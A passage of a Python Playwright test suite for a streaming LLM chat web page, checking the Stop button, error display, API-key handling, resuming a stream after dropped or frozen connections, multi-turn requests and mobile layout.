    reply = ask(page, sim_text(tokens=tokens, stall_after=5, delay=0.08))
    code = reply.locator(".content pre code")
    # The open fence is code while it streams.
    expect(code).to_have_text("x = 1\ny = 2", timeout=15_000)
    assert reply.get_attribute("data-state") == "streaming"
    assert sim.wait_for_requests(1, 5)
    page.click("#stop")
    assert wait_state(reply) == "stopped"
    assert reply.get_attribute("data-finish-reason") == "cancelled"
    assert sim.requests[0].wait_closed(5), "Stop did not close the upstream request"
    assert content_text(reply) == "Partial answer.x = 1\ny = 2"
    assert not [s for s in page.evaluate("window.__snapshots") if "`" in s]
    expect(page.locator("#send")).to_be_enabled()
    expect(page.locator("#stop")).to_be_disabled()


def test_reasoning_tools_heartbeats_and_timing(new_page: Any, relay_service: Any, sim: Any) -> None:
    page = new_page(relay_service.url)
    # HEARTBEAT_INTERVAL is 1 s there: pings arrive before the first token.
    reply = ask(page, sim_text(first_delay=1.5, reasoning=["Let me think", " about it."],
                               tokens=["The answer", " is 42."], delay=0.1,
                               tool_calls=[{"name": "lookup", "arguments": '{"q": "x"}'}]))
    assert wait_state(reply) == "done"
    assert content_text(reply) == "The answer is 42."
    details = reply.locator("details.reasoning")
    expect(details).to_be_visible()
    assert details.get_attribute("open") is None  # collapsed
    expect(details.locator(".reasoning-text")).to_have_text("Let me think about it.")
    expect(reply.locator(".tools li")).to_have_text('🔧 lookup({"q": "x"})')
    stats = reply.locator(".stats").text_content() or ""
    assert re.search(r"first token \d+(\.\d+)? m?s", stats), stats
    assert re.search(r"\d+(\.\d+)? tok/s", stats), stats


def test_error_event_keeps_partial_text(new_page: Any, relay_service: Any, sim: Any) -> None:
    page = new_page(relay_service.url)
    reply = ask(page, sim_text(tokens=["Half ", "an ", "answer"], error_after=2))
    assert wait_state(reply) == "error"
    assert content_text(reply) == "Half an"
    expect(reply.locator(".error")).to_be_visible()
    expect(reply.locator(".error")).to_contain_text("upstream_error")
    assert "SECRET" not in (reply.text_content() or "")


def test_api_key_field_and_http_errors(service_factory: Any, new_page: Any, sim: Any) -> None:
    service = service_factory(openai_env(sim, API_KEYS="key-one,key-two"))
    page = new_page(service.url, allow_console=("401",))
    key = page.locator("#api-key")
    expect(key).to_be_visible()
    # No key: nothing is sent, the field asks for one.
    page.fill("#prompt", "hello")
    page.click("#send")
    expect(key).to_be_focused()
    expect(page.locator(REPLY)).to_have_count(0)
    # A wrong key: the service's 401 shows as the reply's error, and the prompt comes back.
    key.fill("wrong-key")
    reply = ask(page, sim_text(tokens=["ok"]))
    assert wait_state(reply) == "error"
    expect(reply.locator(".error")).to_contain_text("401")
    expect(page.locator("#prompt")).to_have_value(sim_text(tokens=["ok"]))
    assert sim.requests == []
    key.fill("key-two")
    reply = ask(page, sim_text(tokens=["Authorized."]))
    assert wait_state(reply) == "done"
    assert content_text(reply) == "Authorized."
    assert page.evaluate("Object.keys(localStorage).length") == 0
    assert page.evaluate("sessionStorage.getItem('flask-llm-stream.api-key')") == "key-two"
    # The refused turn was taken back: the upstream sees one user message.
    assert [m["role"] for m in sim.requests[-1].body["messages"]] == ["user"]


# --- resuming -----------------------------------------------------------------------------


def test_connection_cut_mid_answer_resumes_exactly(
        service_factory: Any, new_page: Any, sim: Any) -> None:
    service = service_factory(openai_env(sim))
    port = int(service.url.rsplit(":", 1)[1])
    with TCPProxy(("127.0.0.1", port)) as proxy:
        # The cut connection's fetch fails in the console; that is the point.
        page = new_page(proxy.url, allow_console=("ERR_INCOMPLETE_CHUNKED_ENCODING",
                                                  "ERR_CONNECTION_RESET"))
        tokens = [f"w{i} " for i in range(60)]
        reply = ask(page, sim_text(tokens=tokens, delay=0.04))
        page.wait_for_function("el => el.querySelector('.content').textContent.includes('w12 ')",
                               arg=reply.element_handle(), timeout=20_000)
        assert proxy.cut() >= 1
        assert not sim.requests[0].wait_done(0), "the answer was over before the cut"
        assert wait_state(reply) == "done"
        assert reply.get_attribute("data-reconnects") == "1"
        assert content_text(reply) == "".join(tokens).rstrip()
        chat_requests = [r for r in sim.requests if "messages" in (r.body or {})]
        assert len(chat_requests) == 1, "the page sent the POST again"
        assert proxy.accepted >= 2


def test_half_open_connection_is_noticed_and_resumed(
        service_factory: Any, new_page: Any, sim: Any) -> None:
    # Heartbeats every second: the page gives a silent connection three of them.
    service = service_factory(openai_env(sim, HEARTBEAT_INTERVAL=1))
    port = int(service.url.rsplit(":", 1)[1])
    with TCPProxy(("127.0.0.1", port)) as proxy:
        page = new_page(proxy.url)
        tokens = [f"w{i} " for i in range(60)]
        reply = ask(page, sim_text(tokens=tokens, delay=0.1))
        page.wait_for_function("el => el.querySelector('.content').textContent.includes('w12 ')",
                               arg=reply.element_handle(), timeout=20_000)
        assert proxy.freeze() >= 1  # no byte arrives any more, and nothing says so
        # The browser's idle pooled connections (the page's modules came over several) are
        # frozen too: a resume sent over one of them costs another dead-connection timeout and
        # a backoff before a fresh connection is used, up to about 30 s in all.
        assert wait_state(reply, timeout=90) == "done"
        assert int(reply.get_attribute("data-reconnects") or 0) >= 1
        assert content_text(reply) == "".join(tokens).rstrip()
        chat_requests = [r for r in sim.requests if "messages" in (r.body or {})]
        assert len(chat_requests) == 1, "the page sent the POST again"


def _truncated_stream(route: Any) -> None:
    """A POST answered with a start and two tokens, then the body ends: no terminal, no [DONE]."""
    body = ('retry: 1000\n\nid: 0\ndata: {"type":"start","stream_id":"gone","model":"m"}\n\n'
            'id: 1\ndata: {"type":"token","token":"kept ","index":0}\n\n'
            'id: 2\ndata: {"type":"token","token":"text","index":1}\n\n')
    route.fulfill(status=200, body=body,
                  headers={"Content-Type": "text/event-stream", "X-Stream-Id": "gone"})


def test_resume_of_expired_stream_is_an_error(new_page: Any, relay_service: Any) -> None:
    page = new_page(relay_service.url, allow_console=("404",))
    resumes: list[str | None] = []

    def expired(route: Any) -> None:
        resumes.append(route.request.headers.get("last-event-id"))
        route.fulfill(status=404, content_type="application/json",
                      body='{"error": {"type": "not_found", "message": "no such stream"}}')

    page.route("**/api/chat/stream", _truncated_stream)
    page.route("**/api/chat/stream/gone", expired)
    reply = ask(page, "hello")
    assert wait_state(reply) == "error"
    assert resumes == ["2"]
    assert content_text(reply) == "kept text"
    expect(reply.locator(".error")).to_contain_text("no longer be resumed")


def test_resume_applies_each_event_once(new_page: Any, relay_service: Any) -> None:
    """A resume that repeats events already shown (seq <= Last-Event-ID) does not double them."""
    page = new_page(relay_service.url)
    resumes: list[str | None] = []

    def replaying(route: Any) -> None:
        resumes.append(route.request.headers.get("last-event-id"))
        body = ('id: 1\ndata: {"type":"token","token":"kept ","index":0}\n\n'
                'id: 2\ndata: {"type":"token","token":"text","index":1}\n\n'
                'id: 3\ndata: {"type":"token","token":" and more","index":2}\n\n'
                'id: 4\ndata: {"type":"done","finish_reason":"stop","usage":null}\n\n'
                "data: [DONE]\n\n")
        route.fulfill(status=200, body=body, headers={"Content-Type": "text/event-stream"})

    page.route("**/api/chat/stream", _truncated_stream)
    page.route("**/api/chat/stream/gone", replaying)
    reply = ask(page, "hello")
    assert wait_state(reply) == "done"
    assert resumes == ["2"]
    assert content_text(reply) == "kept text and more"


def _through_real_service(route: Any, edit: Any) -> None:
    """Let the POST reach the real service and hand the page its answer, edited by `edit`."""
    response = route.fetch()
    route.fulfill(response=response, body=edit(response.text()))


def _up_to_terminal(body: str, *, rename: str | None = None) -> str:
    """The stream's bytes up to its terminal event included (no `[DONE]`): a connection cut
    right after it. With `rename`, the terminal event's type is one this page does not know."""
    end = body.index('"type":"done"')
    end = body.index("\n\n", end) + 2
    cut = body[:end]
    return cut.replace('"type":"done"', f'"type":"{rename}"') if rename else cut


def test_cut_after_the_terminal_event_needs_no_resume(
        new_page: Any, relay_service: Any, sim: Any) -> None:
    """The terminal event is the end: the page stops reading there, and a connection lost
    before `[DONE]` is not resumed."""
    page = new_page(relay_service.url)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(f"{r.method} {urlsplit(r.url).path}"))
    page.route("**/api/chat/stream", lambda route: _through_real_service(route, _up_to_terminal))
    tokens = ["All ", "of ", "it."]
    reply = ask(page, sim_text(tokens=tokens))
    assert wait_state(reply) == "done"
    assert reply.get_attribute("data-finish-reason") == "stop"
    assert content_text(reply) == "All of it."
    expect(page.locator("#send")).to_be_enabled()  # the stream's run is over: nothing follows
    assert [r for r in requests if "/api/" in r] == ["POST /api/chat/stream"]


def test_resume_answered_204_ends_done_without_more_requests(
        new_page: Any, relay_service: Any, sim: Any) -> None:
    """The real service answers 204 to a resume at or past the terminal event of an ended
    stream. Here the page has read every event, but not as a terminal one (a type it does not
    know, as a newer service might send): its resume gets 204, and the reply ends done with the
    text it has, with no further request."""
    page = new_page(relay_service.url)
    requests: list[tuple[str, str, str | None]] = []
    statuses: list[tuple[str, int]] = []
    page.on("request", lambda r: requests.append(
        (r.method, urlsplit(r.url).path, r.headers.get("last-event-id"))))
    page.on("response", lambda r: statuses.append((urlsplit(r.url).path, r.status)))
    page.route("**/api/chat/stream", lambda route: _through_real_service(
        route, lambda body: _up_to_terminal(body, rename="finished")))
    tokens = ["Every ", "event ", "was ", "here."]
    reply = ask(page, sim_text(tokens=tokens, delay=0.01))
    assert wait_state(reply) == "done"
    assert content_text(reply) == "Every event was here."
    assert reply.get_attribute("data-reconnects") == "1"
    expect(page.locator("#send")).to_be_enabled()  # the stream's run is over: nothing follows
    api = [r for r in requests if r[1].startswith("/api/")]
    assert len(api) == 2, api
    method, path, last_event_id = api[1]
    assert method == "GET" and path.startswith("/api/chat/stream/")
    # start, the tokens (joined by the service into one or more events), then the terminal one
    assert last_event_id is not None and int(last_event_id) >= 2
    assert (path, 204) in statuses, statuses


def test_resume_answered_204_after_a_drop_mid_stream(new_page: Any, relay_service: Any) -> None:
    page = new_page(relay_service.url)
    resumes: list[str | None] = []

    def ended(route: Any) -> None:
        resumes.append(route.request.headers.get("last-event-id"))
        route.fulfill(status=204)

    page.route("**/api/chat/stream", _truncated_stream)
    page.route("**/api/chat/stream/gone", ended)
    reply = ask(page, "hello")
    assert wait_state(reply) == "done"
    assert content_text(reply) == "kept text"
    expect(page.locator("#send")).to_be_enabled()
    assert resumes == ["2"]


def test_gives_up_after_bounded_resume_attempts(new_page: Any, service_factory: Any) -> None:
    # The default heartbeat (15 s): the page's 45 s dead-connection timeout stays out of the
    # 11 s steps below, so each step is one attempt.
    service = service_factory()
    page = new_page(service.url, allow_console=("ERR_CONNECTION_REFUSED", "Failed to fetch"))
    page.clock.install()  # backoff waits run on a fake clock the test moves forward
    attempts: list[str] = []

    def refuse(route: Any) -> None:
        attempts.append(route.request.url)
        route.abort("connectionrefused")

    page.route("**/api/chat/stream", _truncated_stream)
    page.route("**/api/chat/stream/gone", refuse)
    reply = ask(page, "hello")
    expect(reply).to_have_attribute("data-state", "reconnecting")
    for attempt in range(1, 7):
        expect(reply).to_have_attribute("data-attempt", str(attempt))
        page.clock.run_for(11_000)  # past any one backoff wait (10 s at most)
    expect(reply).to_have_attribute("data-state", "error")
    assert len(attempts) == 6
    assert content_text(reply) == "kept text"
    expect(reply.locator(".error")).to_contain_text("gave up")


# --- conversation, layout, screenshot -----------------------------------------------------


def test_multi_turn_sends_the_conversation(new_page: Any, relay_service: Any, sim: Any) -> None:
    page = new_page(relay_service.url)
    first = sim_text(tokens=["Hello", " there."])
    reply1 = ask(page, first)
    assert wait_state(reply1) == "done"
    second = sim_text(tokens=["Bye."])
    reply2 = ask(page, second, model="other-model")
    assert wait_state(reply2) == "done"
    assert len(sim.requests) == 2
    assert sim.requests[0].body["model"] == "sim-model"  # empty #model: the default
    assert sim.requests[1].body["model"] == "other-model"
    assert sim.requests[1].body["messages"] == [
        {"role": "user", "content": first},
        {"role": "assistant", "content": "Hello there."},
        {"role": "user", "content": second},
    ]
    expect(page.locator(REPLY)).to_have_count(2)
    assert page.locator(LAST_REPLY).evaluate("(el, r) => el === r", reply2.element_handle())
    assert content_text(reply2) == "Bye."


def test_phone_width_and_following_the_end(service_factory: Any, new_page: Any) -> None:
    service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 60})
    page = new_page(service.url, viewport={"width": 390, "height": 700}, is_mobile=True,
                    has_touch=True)
    expect(page.locator("#simulated-notice")).to_be_visible()
    reply = ask(page, "Tell me how this works")
    messages = page.locator("#messages")
    at_end = "el => el.scrollHeight - el.scrollTop - el.clientHeight <= 48"
    # It follows the end while the reader stays there...
    page.wait_for_function(f"() => {{ const el = document.getElementById('messages');"
                           f" return el.scrollHeight > el.clientHeight + 200 && ({at_end})(el); }}",
                           timeout=30_000)
    # ...and stops following once they scroll up.
    messages.evaluate("el => { el.scrollTop = 0; el.dispatchEvent(new Event('scroll')); }")
    length = len(content_text(reply))
    page.wait_for_function("([el, n]) => el.querySelector('.content').textContent.length > n + 200",
                           arg=[reply.element_handle(), length], timeout=30_000)
    assert messages.evaluate("el => el.scrollTop") == 0
    assert wait_state(reply) == "done"
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    for box in (page.locator("#prompt").bounding_box(), page.locator("#send").bounding_box(),
                page.locator("#stop").bounding_box()):
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390


def test_screenshot_mid_answer(service_factory: Any, new_page: Any, tmp_path: Any) -> None:
    service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 80})
    page = new_page(service.url)
    path = capture_screenshot(page, tmp_path / "screenshot.png")
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    page.click("#stop")
    # About 50 tokens (0.6 s) are left after the code: on a loaded machine the screenshot can
    # outlast them, and Stop then comes after the end (Stop itself is tested above).
    assert wait_state(page.locator(LAST_REPLY)) in ("stopped", "done")
